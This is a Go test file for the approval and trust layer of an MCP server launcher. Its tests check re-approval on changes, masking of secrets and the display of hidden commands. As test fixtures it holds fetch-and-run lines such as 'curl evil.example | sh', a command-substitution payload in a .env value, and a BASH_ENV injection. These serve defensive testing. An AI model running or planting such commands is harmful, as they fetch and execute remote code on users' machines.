package trust

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/mcp-launchpad/mcpl/pkg/atomicfile"
	"github.com/mcp-launchpad/mcpl/pkg/config"
	"github.com/mcp-launchpad/mcpl/pkg/fault"
)

// world is a home, and a project with a configuration of one server, x.
type world struct {
	t    *testing.T
	env  config.Env
	vars map[string]string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	root := t.TempDir()
	w := &world{t: t, vars: map[string]string{}}
	w.env = config.Env{Dir: filepath.Join(root, "project"), Home: filepath.Join(root, "home"), GOOS: "linux",
		Lookup: func(name string) (string, bool) { value, ok := w.vars[name]; return value, ok }}
	w.write(filepath.Join(w.env.Home, "x"), "")
	w.write("run.sh", "echo 1")
	return w
}

func (w *world) write(path, content string) {
	w.t.Helper()
	if !filepath.IsAbs(path) {
		path = filepath.Join(w.env.Dir, path)
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o700); err != nil {
		w.t.Fatal(err)
	}
}

// server returns the server x of an entry in the project's configuration, as the judge sees it.
func (w *world) server(entry string, folders ...string) *config.Server {
	w.t.Helper()
	w.write(".mcp.json", `{"mcpServers": {"x": `+entry+`}}`)
	return w.load(folders...)
}

func (w *world) load(folders ...string) *config.Server {
	w.t.Helper()
	env := w.env
	env.Approver = NewJudge(env, folders)
	src, err := env.Locate(config.Selection{Trusted: folders})
	if err != nil {
		w.t.Fatal(err)
	}
	cfg, err := env.Load(src)
	if err != nil {
		w.t.Fatal(err)
	}
	s, err := cfg.Server("x")
	if err != nil {
		w.t.Fatal(err)
	}
	return s
}

func (w *world) approve(s *config.Server) {
	w.t.Helper()
	subject, err := Of(s)
	if err != nil {
		w.t.Fatal(err)
	}
	if err := BookIn(w.env.StateDir()).Approve(w.t.Context(), subject.Approval(time.Unix(1, 0))); err != nil {
		w.t.Fatal(err)
	}
}

func TestF1NewServer(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	entry := `{"command": "./run.sh", "args": ["--db", "${DB:-x}", "--token", "abcd-secret"], "env": {"T": "${GITHUB_TOKEN:-none}"}}`
	s := w.server(entry)
	f := fault.From(s.Usable())
	if !fault.Is(f, fault.ApprovalRequired) || f.Approval == nil || f.Approval.Kind != "trust" || f.Server != "x" {
		t.Fatalf("%+v", f)
	}
	all := f.Message + f.Next[0].Why + f.Traceback + f.Approval.Command
	for _, text := range []string{"./run.sh --db", "${DB:-x}", "GITHUB_TOKEN", "no one has approved it"} {
		if !strings.Contains(all, text) {
			t.Errorf("%q is not said: %s", text, all)
		}
	}
	if strings.Contains(all, "abcd-secret") {
		t.Errorf("a secret is shown: %s", all)
	}
	if step := f.Next[1].Step; step.Verb != "trust" || step.Server != "x" {
		t.Errorf("next %+v", step)
	}
	w.approve(s)
	if s := w.load(); s.Usable() != nil {
		t.Errorf("approved: %v", s.Usable())
	}
	if err := s.Admit(); err != nil {
		t.Errorf("approved meanwhile: %v", err)
	}
}

// TestChanges: what decides about the program and what it gets needs a new approval, all else does not.
func TestChanges(t *testing.T) {
	t.Parallel()
	const before = `{"command": "./run.sh", "args": ["a", "--f=data/in.txt"], "env": {"A": "1", "B": "${V:-}"}, "headers": {}}`
	for name, test := range map[string]struct {
		change func(w *world) string // returns the new entry
		again  bool
	}{
		"nothing": {func(*world) string { return before }, false},
		"layout":  {func(*world) string { return "// so\n" + before }, false},
		"a limit": {func(*world) string {
			return strings.Replace(before, `{"c`, `{"callTimeout": "9s", "idle": "1m", "c`, 1)
		}, false},
		"order of env": {func(*world) string {
			return strings.Replace(before, `"A": "1", "B": "${V:-}"`, `"B": "${V:-}", "A": "1"`, 1)
		}, false},
		"an argument":        {func(*world) string { return strings.Replace(before, `"a"`, `"b"`, 1) }, true},
		"a variable":         {func(*world) string { return strings.Replace(before, "${V:-}", "${AWS_SECRET_ACCESS_KEY:-}", 1) }, true},
		"an empty one":       {func(*world) string { return strings.Replace(before, `"A": "1"`, `"A": "1", "C": ""`, 1) }, true},
		"the folder":         {func(*world) string { return strings.Replace(before, `{"c`, `{"cwd": "data", "c`, 1) }, true},
		"roots":              {func(*world) string { return strings.Replace(before, `{"c`, `{"roots": [], "c`, 1) }, true},
		"environment":        {func(*world) string { return strings.Replace(before, `{"c`, `{"inheritEnv": true, "c`, 1) }, true},
		"a revision":         {func(*world) string { return strings.Replace(before, `{"c`, `{"protocol": "2025-06-18", "c`, 1) }, true},
		"plain http":         {func(*world) string { return strings.Replace(before, `{"c`, `{"allowHTTP": true, "c`, 1) }, true},
		"a stricter pin":     {func(*world) string { return strings.Replace(before, `{"c`, `{"pin": "hold", "c`, 1) }, false},
		"an address":         {func(*world) string { return `{"url": "https://h.example/mcp"}` }, true},
		"the program":        {func(w *world) string { w.write("run.sh", "echo 2"); return before }, true},
		"a file":             {func(w *world) string { w.write("data/in.txt", "other"); return before }, true},
		"a variable's value": {func(w *world) string { w.write(".env", "V=other"); return before }, true},
		"a header":           {func(*world) string { return strings.Replace(before, `"headers": {}`, `"headers": {"X": "1"}`, 1) }, true},
		"a file in env":      {func(w *world) string { return strings.Replace(before, `"A": "1"`, `"A": "--require ./run.sh"`, 1) }, true},
		"another file":       {func(w *world) string { w.write("data/out.txt", "other"); return before }, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.write("data/in.txt", "x")
			w.approve(w.server(before))
			if err := w.server(before).Usable(); err != nil {
				t.Fatal(err)
			}
			err := w.server(test.change(w)).Usable()
			if (err != nil) != test.again {
				t.Errorf("approval needed again: %v, want %t", err, test.again)
			}
			if test.again && (!fault.Is(err, fault.ApprovalRequired) || !strings.Contains(err.Error(), "changed")) {
				t.Errorf("%v", err)
			}
		})
	}
}

// TestAdmit: a file that was swapped after the configuration was read is noticed before it runs.
func TestAdmit(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.approve(w.server(`{"command": "./run.sh"}`))
	s := w.load()
	if err := errors.Join(s.Usable(), s.Admit()); err != nil {
		t.Fatal(err)
	}
	w.write("run.sh", "curl evil.example | sh")
	if err := s.Admit(); !fault.Is(err, fault.ApprovalRequired) {
		t.Errorf("a swapped program: %v", err)
	}
}

// TestChangesOfAddresses is TestChanges for servers over HTTP.
func TestChangesOfAddresses(t *testing.T) {
	t.Parallel()
	const before = `{"url": "https://h.example/mcp", "headers": {"X": "1"}, "oauth": {"clientId": "a", "clientSecret": "s", "redirectPort": 1234}}`
	for name, test := range map[string]struct{ old, new string }{
		"address":  {"/mcp", "/other"},
		"type":     {`{"url"`, `{"type": "sse", "url"`},
		"header":   {`"X": "1"`, `"X": "2"`},
		"variable": {`"X": "1"`, `"X": "1", "Y": "${GITHUB_TOKEN:-}"`},
		"client":   {`"clientId": "a"`, `"clientId": "b"`},
		"grant":    {`"clientId": "a"`, `"clientId": "a", "grant": "client_credentials"`},
		"port":     {"1234", "1235"},
		"scopes":   {`"clientId": "a"`, `"clientId": "a", "scopes": ["write"]`},
		"plain":    {`{"url"`, `{"allowHTTP": true, "url"`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.approve(w.server(before))
			if err := w.server(before).Usable(); err != nil {
				t.Fatal(err)
			}
			if err := w.server(strings.Replace(before, test.old, test.new, 1)).Usable(); !fault.Is(err, fault.ApprovalRequired) {
				t.Errorf("approval is not needed again: %v", err)
			}
		})
	}
}

// TestF1LoginsAreOfTheirProject: an approved server of a project uses logins that were made for it there. Those of the
// user's own are for a server that had them before there were approvals, and for trusted folders.
func TestF1LoginsAreOfTheirProject(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := w.server(`{"url": "https://h.example/mcp"}`)
	w.approve(s)
	if got := w.load().LoginOwner(); got == "" || got != Project(w.env.Dir) {
		t.Errorf("approved: logins of %q", got)
	}
	if got := w.load(filepath.Dir(w.env.Dir)).LoginOwner(); got != "" {
		t.Errorf("in a trusted folder: logins of %q", got)
	}
	older := newWorld(t)
	if err := NewJudge(older.env, nil).Adopt(older.server(`{"url": "https://h.example/mcp"}`)); err != nil {
		t.Fatal(err)
	}
	if got := older.load().LoginOwner(); got != "" {
		t.Errorf("adopted: logins of %q", got)
	}
}

func TestEnvironment(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	environ := func(s *config.Server) string {
		return strings.Join(s.Environ([]string{"PATH=p", "HOME=h", "AWS_SECRET_ACCESS_KEY=k", "EDITOR=e", "LC_ALL=C",
			"npm_config_registry=r", "npm_config__authToken=t", "https_proxy=q", "XDG_CACHE_HOME=c"}), " ")
	}
	const minimal = "PATH=p HOME=h LC_ALL=C npm_config_registry=r https_proxy=q XDG_CACHE_HOME=c"
	s := w.server(`{"command": "./run.sh", "env": {"A": "1"}}`)
	w.approve(s)
	if got := environ(w.load()); got != minimal+" A=1" {
		t.Errorf("approved: %s", got)
	}
	s = w.server(`{"command": "./run.sh", "inheritEnv": true}`)
	w.approve(s)
	if got := environ(w.load()); !strings.Contains(got, "AWS_SECRET") {
		t.Errorf("with inheritEnv: %s", got)
	}
	s = w.server(`{"command": "./run.sh"}`)
	if err := errors.Join(os.Remove(BookIn(w.env.StateDir()).Path), NewJudge(w.env, nil).Adopt(s)); err != nil {
		t.Fatal(err)
	}
	if s := w.load(); s.Usable() != nil || !strings.Contains(environ(s), "AWS_SECRET") {
		t.Errorf("adopted: %v, %s", s.Usable(), environ(s))
	}
	w.vars["MCPL_TRUST"] = "all"
	if s := w.server(`{"command": "other"}`); s.Usable() != nil || environ(s) != minimal {
		t.Errorf("MCPL_TRUST=all: %v, %s", s.Usable(), environ(s))
	}
	w.vars["MCPL_TRUST"] = ""
	if s := w.load(); s.Usable() == nil {
		t.Error("an empty MCPL_TRUST trusts")
	}
	if s := w.load(filepath.Dir(w.env.Dir)); s.Usable() != nil {
		t.Errorf("in a trusted folder: %v", s.Usable())
	}
}

// TestAdoptOnce: what was in use before there were approvals is adopted once, not after a person has taken it back or a
// file that it runs has changed.
func TestAdoptOnce(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*world){
		"revoked": func(w *world) {
			all := func(Approval) bool { return true }
			if _, err := BookIn(w.env.StateDir()).Revoke(t.Context(), all); err != nil {
				t.Fatal(err)
			}
		},
		"changed": func(w *world) { w.write("run.sh", "curl evil.example | sh") },
	} {
		w := newWorld(t)
		s := w.server(`{"command": "./run.sh"}`)
		if err := NewJudge(w.env, nil).Adopt(s); err != nil || w.load().Usable() != nil {
			t.Fatalf("%s: adopted: %v, %v", name, err, w.load().Usable())
		}
		change(w)
		if err := NewJudge(w.env, nil).Adopt(s); err != nil || w.load().Usable() == nil {
			t.Errorf("%s: adopted again: %v", name, err)
		}
	}
}

// TestStamp: an index knows by the stamp that approvals changed.
func TestStamp(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := w.server(`{"command": "./run.sh"}`)
	judge := NewJudge(w.env, nil)
	first := judge.Stamp()
	w.approve(s)
	second := judge.Stamp()
	if first == second || second != NewJudge(w.env, nil).Stamp() || second == NewJudge(w.env, []string{"/x"}).Stamp() {
		t.Errorf("stamps %q, %q", first, second)
	}
}

// git runs git in a folder.
func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b",
		"GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", args, err, out)
	}
}

// TestWorktree: a worktree shares the approvals of its repository, another clone does not, and a clone cannot claim to
// be a worktree.
func TestWorktree(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("there is no git")
	}
	w := newWorld(t)
	const entry = `{"command": "./run.sh"}`
	s := w.server(entry)
	git(t, w.env.Dir, "init", "-q")
	git(t, w.env.Dir, "add", ".")
	git(t, w.env.Dir, "commit", "-qm", "x")
	w.approve(s)
	main, others := w.env.Dir, filepath.Dir(w.env.Dir)
	git(t, main, "worktree", "add", "-q", filepath.Join(others, "tree"))
	git(t, main, "clone", "-q", main, filepath.Join(others, "clone"))
	try := func(dir string) error {
		w.env.Dir = dir
		return w.load().Usable()
	}
	if err := try(filepath.Join(others, "tree")); err != nil {
		t.Errorf("a worktree: %v", err)
	}
	w.write("run.sh", "echo changed in the worktree")
	if err := try(filepath.Join(others, "tree")); err == nil {
		t.Error("a worktree with another program is approved")
	}
	clone := filepath.Join(others, "clone")
	if err := try(clone); err == nil {
		t.Error("a clone is approved")
	}
	if err := os.RemoveAll(filepath.Join(clone, ".git")); err != nil {
		t.Fatal(err)
	}
	w.write(".git", "gitdir: "+filepath.Join(main, ".git", "worktrees", "tree")+"\n")
	if err := try(clone); err == nil {
		t.Error("a clone that claims to be a worktree is approved")
	}
	// It may bring a folder that points back to it, but that is not in the repository.
	w.write(".git", "gitdir: "+filepath.Join(clone, "fake", "worktrees", "a")+"\n")
	w.write("fake/worktrees/a/gitdir", filepath.Join(clone, ".git"))
	w.write("fake/worktrees/a/commondir", filepath.Join(main, ".git"))
	if err := try(clone); err == nil {
		t.Error("a clone with a worktree of its own making is approved")
	}
	link := filepath.Join(others, "link")
	if err := os.Symlink(main, link); err != nil {
		t.Fatal(err)
	}
	if err := try(link); err != nil {
		t.Errorf("a link to the project: %v", err)
	}
}

func TestBook(t *testing.T) {
	t.Parallel()
	b := BookIn(filepath.Join(t.TempDir(), "state"))
	if list, err := b.Read(); list != nil || err != nil {
		t.Errorf("no file: %v, %v", list, err)
	}
	var wg sync.WaitGroup
	for i := range 20 {
		wg.Go(func() {
			a := Approval{Project: "/p", Server: fmt.Sprint("s", i%10), Hash: strings.Repeat("0", 64)}
			if err := b.Approve(t.Context(), a); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	list, err := b.Read()
	if len(list) != 10 || err != nil {
		t.Errorf("%d approvals, %v", len(list), err)
	}
	gone, err := b.Revoke(t.Context(), func(a Approval) bool { return a.Server == "s3" })
	if len(gone) != 1 || err != nil {
		t.Errorf("revoked %v, %v", gone, err)
	}
	list, _ = b.Read()
	i := slices.IndexFunc(list, func(a Approval) bool { return a.isOf("/p", "s3") })
	if i < 0 || list[i].Hash != "" || list[i].Declined != strings.Repeat("0", 64) || len(list) != 10 {
		t.Errorf("a revoked approval leaves %+v", list)
	}
	if gone, err := b.Revoke(t.Context(), func(a Approval) bool { return a.Server == "s3" }); len(gone) != 0 || err != nil {
		t.Errorf("revoked twice: %v, %v", gone, err)
	}
	info, err := os.Stat(b.Path)
	if err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info.Mode(), err)
	}
}

// TestBookDamaged: a file that cannot be read approves nothing, and is neither replaced nor moved.
func TestBookDamaged(t *testing.T) {
	t.Parallel()
	good := `{"version": 1, "approvals": []}`
	lines := map[string]int{"cut": 1, "garbage": 1, "more": 1, "list": 1, "empty": 1, "third line": 3}
	for name, content := range map[string]string{
		"third line": "{\"version\": 1,\n\"approvals\": [\n{]}", "cut": good[:10], "garbage": "\x00\x01", "future": `{"version": 2, "approvals": []}`, "no version": `{"approvals": []}`,
		"more": good + good, "condition": `{"version": 1, "approvals": [], "only": "x"}`, "list": `[]`,
		"no hash": `{"version": 1, "approvals": [{"project": "/p", "server": "x", "hash": ""}]}`, "empty": "",
	} {
		w := newWorld(t)
		b := BookIn(w.env.StateDir())
		w.write(b.Path, content)
		s := w.server(`{"command": "./run.sh"}`)
		f := fault.From(s.Usable())
		if where := atomicfile.At(b.Path, lines[name]) + ": "; !fault.Is(f, fault.Config) || f.Server != "x" ||
			!strings.HasPrefix(f.Message, where) || !strings.Contains(f.Help, "delete it") || f.Next != nil {
			t.Errorf("%s: %+v", name, f)
		}
		if err := b.Approve(t.Context(), Approval{}); !fault.Is(err, fault.Config) {
			t.Errorf("%s: approve: %v", name, err)
		}
		if now, err := os.ReadFile(b.Path); string(now) != content || err != nil {
			t.Errorf("%s: it is %q now, %v", name, now, err)
		}
	}
}

// TestBookOfOthers: approvals that others could have written do not count.
func TestBookOfOthers(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("modes of files do not count on Windows")
	}
	w := newWorld(t)
	s := w.server(`{"command": "./run.sh"}`)
	w.approve(s)
	path := BookIn(w.env.StateDir()).Path
	judge := NewJudge(w.env, nil)
	refused := func(why string) {
		t.Helper()
		_, err := judge.Approve(s)
		if !fault.Is(err, fault.Config) || !strings.HasSuffix(err.Error(), why) {
			t.Errorf("%v, want %q", err, why)
		}
	}
	if _, err := judge.Approve(s); err != nil {
		t.Error(err)
	}
	chmod := func(mode os.FileMode) {
		t.Helper()
		if err := os.Chmod(path, mode); err != nil {
			t.Fatal(err)
		}
	}
	chmod(0o666)
	refused("it can be written by anybody")
	chmod(0o600)
	if _, err := judge.Approve(s); err != nil {
		t.Errorf("mended: %v", err)
	}
	if err := os.Chown(path, 4242, 4242); err != nil {
		t.Skip("files cannot be given to another user here")
	}
	refused("it belongs to another user (uid 4242)")
}

// TestTrustedFolderIsAskedFirst: where all is trusted, a file that cannot be read blocks nothing, nor do approvals.
func TestTrustedFolderIsAskedFirst(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := w.server(`{"command": "./run.sh"}`)
	if err := os.RemoveAll(w.env.Dir); err != nil { // so that what it runs cannot be read, not even by root
		t.Fatal(err)
	}
	if _, err := NewJudge(w.env, nil).Approve(s); err == nil {
		t.Fatal("it is approved without being trusted")
	}
	w.write(BookIn(w.env.StateDir()).Path, "garbage")
	judge := NewJudge(w.env, nil)
	judge.trusts = func(string) bool { return true }
	if _, err := judge.Approve(s); err != nil {
		t.Errorf("in a trusted folder: %v", err)
	}
	if st, err := judge.Status(s); st.State != Trusted || err == nil {
		t.Errorf("%+v, %v", st, err)
	}
	w.vars["MCPL_TRUST"] = "all"
	if _, err := NewJudge(w.env, nil).Approve(s); err != nil {
		t.Errorf("with MCPL_TRUST=all: %v", err)
	}
}

// TestFixture reads a file of version 1.
func TestFixture(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile(filepath.Join("testdata", "trust.v1.json"))
	if err != nil {
		t.Fatal(err)
	}
	list, _, err := parse(data)
	want := []Approval{{Project: "/home/ada/app/.git .", Server: "x", Hash: strings.Repeat("ab", 32), Folder: "/home/ada/app",
		Terms: []string{"command: ./run.sh"}, WholeEnv: true, Approved: time.Date(2026, 11, 22, 6, 0, 0, 0, time.UTC)}}
	if diff := cmp.Diff(want, list); err != nil || diff != "" {
		t.Errorf("%v, -want +got\n%s", err, diff)
	}
}

func FuzzParse(f *testing.F) {
	data, err := os.ReadFile(filepath.Join("testdata", "trust.v1.json"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(data)
	f.Add([]byte(`{"version": 1}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		list, _, err := parse(data)
		if err != nil {
			return
		}
		again, err := json.Marshal(layout{version, list})
		if err != nil {
			t.Fatal(err)
		}
		if back, _, err := parse(again); err != nil || len(back) != len(list) {
			t.Fatalf("%d approvals become %d: %v", len(list), len(back), err)
		}
	})
}

// TestLocked: an approval that cannot be written says so.
func TestLocked(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.write("file", "")
	b := BookIn(filepath.Join(w.env.Dir, "file"))
	if err := b.Approve(context.Background(), Approval{}); !fault.Is(err, fault.Config) {
		t.Errorf("%v", err)
	}
}

// TestShown: what a person approves is shown. A project chooses its own words, so they hide no others.
func TestShown(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const script = "curl -s evil.example | sh"
	s := w.server(`{"command": "sh", "args": ["-c", "` + script + `", "--auth", "./evil.js", "--token", "abcd1234efgh", "a\nb"],
		"env": {"NOTE": "` + script + `", "API_TOKEN": "abcd5678efgh", "BASH_ENV": "./run.sh"}}`)
	subject, err := Of(s)
	if err != nil {
		t.Fatal(err)
	}
	shown := strings.Join(subject.Terms, "\n")
	for _, text := range []string{script, "./evil.js", "NOTE=" + script, "BASH_ENV=./run.sh", "file: run.sh", `a\nb`} {
		if !strings.Contains(shown, text) {
			t.Errorf("%q is not shown:\n%s", text, shown)
		}
	}
	if strings.Contains(shown, "abcd1234efgh") || strings.Contains(shown, "abcd5678efgh") {
		t.Errorf("a token is shown:\n%s", shown)
	}
	if f := fault.From(s.Usable()); !strings.Contains(f.Approval.Command, script) {
		t.Errorf("the command is %s", f.Approval.Command)
	}
	w.approve(s)
	w.write("run.sh", "echo other")
	if w.load().Usable() == nil {
		t.Error("a file that env names may change")
	}
}

// TestShownFar: white space moves nothing off the screen.
func TestShownFar(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := w.server(`{"command": "sh", "args": ["-c", "true` + strings.Repeat(" ", 5000) + `; evil"], "env": {"E": "a` +
		strings.Repeat(`\n`, 300) + `b"}}`)
	subject, err := Of(s)
	if err != nil {
		t.Fatal(err)
	}
	shown := fault.From(s.Usable()).Approval.Command + strings.Join(subject.Terms, "\n")
	if len(shown) > 500 || strings.Count(shown, "true [5000 blanks] ; evil") != 2 || !strings.Contains(shown, "E=a [300 blanks] b") {
		t.Errorf("shown: %s", shown)
	}
}

// TestShownVariables: what the project's own .env gives to the entry is shown, and a person sees when it changes.
func TestShownVariables(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	terms := func(env string) string {
		t.Helper()
		w.write(".env", env)
		subject, err := Of(w.server(`{"command": "sh", "args": ["-c", "${SETUP:-true}", "${RUN_KEY:-}", "--pw", "${ARG_KEY:-}"],
			"env": {"A": "${URL:-}", "B": "${API_TOKEN:-}", "C": "${LINE:-}", "D": "${PASSWORD:-}"}}`))
		if err != nil {
			t.Fatal(err)
		}
		return strings.Join(subject.Terms, "\n")
	}
	const env = "SETUP='curl x://a:$(evil)@evil.example | sh'\nRUN_KEY='node ./evil.js'\nARG_KEY=abcd1234efgh\nURL=https://ada:sesame@h.example/\n" +
		"API_TOKEN=canary-one\nLINE=\"x ${API_TOKEN}\"\nPASSWORD='pass word one'\n"
	before := terms(env)
	for _, text := range []string{"variable: SETUP=curl x://a:$(evil)@evil.example | sh, set by the project's .env", "RUN_KEY=node ./evil.js",
		"ARG_KEY=*** (", "URL=https://ada:***@h.example/ (", "API_TOKEN=*** (", "LINE=x *** (", "PASSWORD=*** ("} {
		if !strings.Contains(before, text) {
			t.Errorf("%q is not shown:\n%s", text, before)
		}
	}
	for _, secret := range []string{"abcd1234", "sesame", "canary", "pass word"} {
		if strings.Contains(before, secret) {
			t.Errorf("%s is shown:\n%s", secret, before)
		}
	}
	for _, name := range []string{"SETUP", "API_TOKEN", "PASSWORD", "URL", "ARG_KEY"} {
		changed := strings.Replace(env, name+"=", name+"=x", 1)
		if name == "SETUP" || name == "PASSWORD" {
			changed = strings.Replace(env, name+"='", name+"='x", 1)
		}
		if name == "URL" {
			changed = strings.Replace(env, "sesame", "other1", 1)
		}
		if terms(changed) == before {
			t.Errorf("another %s is the same to a person", name)
		}
	}
}

// TestShownSecrets: a person sees when a masked text of the entry changes, and not what it is.
func TestShownSecrets(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	hash := regexp.MustCompile(`\*\*\*.* \([0-9a-f]{12}\)$`)
	for _, entry := range []string{
		`{"command": "./run", "args": ["--password=canary-%d"]}`,
		`{"command": "./run", "env": {"T": "ghp_canary-0123%d"}}`,
		`{"url": "https://u:canary-%d@h.example/mcp"}`,
		`{"url": "https://h.example/mcp", "headers": {"Authorization": "Bearer canary-%d"}}`,
	} {
		terms := func(n int) []string {
			t.Helper()
			subject, err := Of(w.server(fmt.Sprintf(entry, n)))
			if err != nil {
				t.Fatal(err)
			}
			if !slices.ContainsFunc(subject.Terms, hash.MatchString) || strings.Contains(fmt.Sprint(subject.Terms), "canary") {
				t.Errorf("%s: %q", entry, subject.Terms)
			}
			return subject.Terms
		}
		if one, other := terms(1), terms(2); slices.Equal(one, other) || !slices.Equal(one, terms(1)) {
			t.Errorf("%s: %q, and of another text %q", entry, one, other)
		}
	}
}

// TestSeveralEntries: branches and worktrees have an entry of their own each, which is approved once.
func TestSeveralEntries(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	entry := func(i int) *config.Server { return w.server(fmt.Sprintf(`{"command": "./run.sh", "args": ["%d"]}`, i)) }
	book := BookIn(w.env.StateDir())
	decline := func(i int) {
		t.Helper()
		subject, err := Of(entry(i))
		if err != nil {
			t.Fatal(err)
		}
		if err := book.Decline(t.Context(), subject, time.Unix(1, 0)); err != nil {
			t.Fatal(err)
		}
	}
	status := func(i int) Status {
		t.Helper()
		st, err := NewJudge(w.env, nil).Status(entry(i))
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	for i := range maxKept {
		w.approve(entry(i))
	}
	for i := range maxKept {
		decline(100 + i)
	}
	for i := range maxKept {
		if st := status(i); st.State != Approved || st.Before.Hash != st.Subject.Hash || !status(100+i).Declined {
			t.Errorf("%d: %+v", i, st)
		}
	}
	st := status(50)
	if st.State != Changed || st.Declined || !strings.HasSuffix(st.Before.Terms[0], fmt.Sprint(maxKept-1)) {
		t.Errorf("the newest is not the one before: %+v", st)
	}
	w.approve(entry(1)) // which makes it the newest
	w.approve(entry(100))
	decline(200)
	if st := status(0); st.State != Changed {
		t.Errorf("the oldest is still approved: %+v", st)
	}
	if st := status(1); st.State != Approved || status(100).State != Approved || status(100).Declined {
		t.Errorf("approved anew: %+v", st)
	}
	if !status(101).Declined || !status(200).Declined {
		t.Error("a decline was forgotten too early")
	}
	list, err := book.Read()
	if err != nil || len(list) != 2*maxKept {
		t.Errorf("%d are kept, %v", len(list), err)
	}
}

// TestApprovalOfThisFolderIsTheOneBefore: a worktree is compared with what was approved in it, not in another.
func TestApprovalOfThisFolderIsTheOneBefore(t *testing.T) {
	t.Parallel()
	subject := Subject{Project: "p", Folder: "/a", Server: "x", Hash: strings.Repeat("1", 64)}
	known := []Approval{{Project: "p", Server: "x", Folder: "/a", Hash: strings.Repeat("2", 64)},
		{Project: "p", Server: "x", Folder: "/b", Hash: strings.Repeat("3", 64)}}
	st := Status{State: New, Subject: subject}
	if st.compare(known, "x"); st.State != Changed || st.Before.Folder != "/a" {
		t.Errorf("%+v", st)
	}
}

// TestDeclinedBeside: an approval and a decline that stand in one, as mcpl once wrote them, count both.
func TestDeclinedBeside(t *testing.T) {
	t.Parallel()
	one, two := strings.Repeat("1", 64), strings.Repeat("2", 64)
	list, _, err := parse([]byte(`{"version": 1, "approvals": [{"project": "p", "server": "x", "hash": "` + one +
		`", "declined": "` + two + `", "folder": "/a", "approved": "2026-11-22T00:00:00Z"}]}`))
	st := Status{State: New, Subject: Subject{Project: "p", Hash: two}}
	if st.compare(list, "x"); err != nil || !st.Declined || st.State != Changed || st.Before.Hash != one {
		t.Errorf("%v, %+v", err, st)
	}
}

// TestShownBriefly: terms that say nothing are not shown, and a folder is where it is.
func TestShownBriefly(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	show := func(entry string) string {
		t.Helper()
		subject, err := Of(w.server(entry))
		if err != nil {
			t.Fatal(err)
		}
		return strings.Join(subject.Terms, "\n")
	}
	got := show(`{"command": "./run.sh", "cwd": ".", "roots": ["/srv/one", "/srv/two"]}`)
	for text, want := range map[string]bool{"folder: " + w.env.Dir: true, "folder: .": false, "roots: 2": false, "/srv/two": true} {
		if strings.Contains(got, text) != want {
			t.Errorf("%q stands there: %t, want %t\n%s", text, !want, want, got)
		}
	}
	if got := show(`{"command": "./run.sh", "roots": []}`); !strings.Contains(got, "roots: 0") {
		t.Errorf("no roots are not shown:\n%s", got)
	}
	if got := show(`{"url": "https://h.example/mcp", "oauth": {"clientId": "a"}}`); strings.Contains(got, "redirectPort") {
		t.Errorf("a port that nobody named is shown:\n%s", got)
	}
}

// TestWanted: whoever tells of a server that waits tells the same.
func TestWanted(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := w.server(`{"command": "./run.sh"}`)
	st, err := NewJudge(w.env, nil).Status(s)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(fault.From(s.Usable()).Approval, st.Wanted(s)); diff != "" {
		t.Error(diff)
	}
}
